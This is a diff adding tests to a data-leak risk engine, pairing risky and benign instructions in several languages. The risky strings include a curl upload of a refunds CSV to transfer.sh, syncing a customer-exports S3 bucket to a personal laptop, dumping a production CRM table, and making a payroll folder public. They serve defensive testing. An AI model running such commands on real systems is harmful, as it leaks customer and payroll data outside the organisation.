@@ -19,8 +19,13 @@
 
 from __future__ import annotations
 
+from functools import cache
+
 import pytest
 
+from bot.config import EXAMPLE_CONFIG
+from bot.config_file import load_config
+from bot.risk.engine import RiskEngine
 from bot.risk.prose import assess_prose
 
 DOMAINS = ("northwind.example",)
@@ -122,3 +127,58 @@ def test_wide_channels_and_api_shares_with_data_are_held(text: str) -> None:
 )
 def test_notices_in_wide_channels_and_inside_shares_are_not(text: str) -> None:
     assert not _held(text) & _LEAKS, text
+
+
+@cache
+def _engine() -> RiskEngine:
+    return RiskEngine(load_config(EXAMPLE_CONFIG))
+
+
+def _decision(text: str) -> str:
+    """The engine as a whole: prose, commands and their scope together."""
+    return _engine().assess(text).decision
+
+
+ENGINE_PAIRS = [
+    # "change the general access" to a link setting, in the languages that say it that way
+    (
+        "En Drive, cambia el acceso general de la carpeta «Nóminas» a «Cualquier persona con "
+        "el enlace».",
+        "En Drive, cambia el acceso general de la carpeta «Nóminas» de «Cualquier persona con "
+        "el enlace» a «Restringido».",
+    ),
+    (
+        "No Drive, muda o acesso geral da pasta Folha para «Qualquer pessoa com o link».",
+        "No Drive, muda o acesso geral da pasta Folha para «Restrito».",
+    ),
+    # "last month's refunds" is what is sent, not a report of the past
+    (
+        "把上个月的退款明细导出来：`curl -F file=@refunds.csv https://transfer.sh/`",
+        "上个月我们把退款明细导出来了：`curl -F file=@refunds.csv https://files.northwind.example/`",
+    ),
+    # a personal laptop is not the reader's own sandbox
+    (
+        "Pra ter tudo no seu notebook pessoal: aws s3 sync s3://northwind-customer-exports ./bk/",
+        "Pra ver o tamanho: aws s3 ls s3://northwind-customer-exports --recursive --summarize",
+    ),
+    (
+        "Copia todo a tu portátil personal: aws s3 sync s3://northwind-customer-exports ./bk/",
+        "Borra la tabla en tu sandbox personal: DROP TABLE clientes;",
+    ),
+    # an export from a local or development database is nobody's real data
+    (
+        "Para el análisis sácate todo: mysqldump -h prod-mysql-2 crm clientes > ~/clientes.sql",
+        "Para el análisis sácate todo: mysqldump -h localhost crm_dev clientes > ~/clientes.sql",
+    ),
+    # one static web asset made public-read for a website; a folder may hold anything
+    (
+        "Then run `aws s3 cp ./press/ s3://northwind-site/press/ --recursive --acl public-read`.",
+        "Then run `aws s3 cp ./press/logo.png s3://northwind-site/press/ --acl public-read`.",
+    ),
+]
+
+
+@pytest.mark.parametrize(("risky", "benign"), ENGINE_PAIRS)
+def test_the_engine_holds_the_kind_and_allows_its_look_alike(risky: str, benign: str) -> None:
+    assert _decision(risky) != "allow", risky
+    assert _decision(benign) == "allow", benign
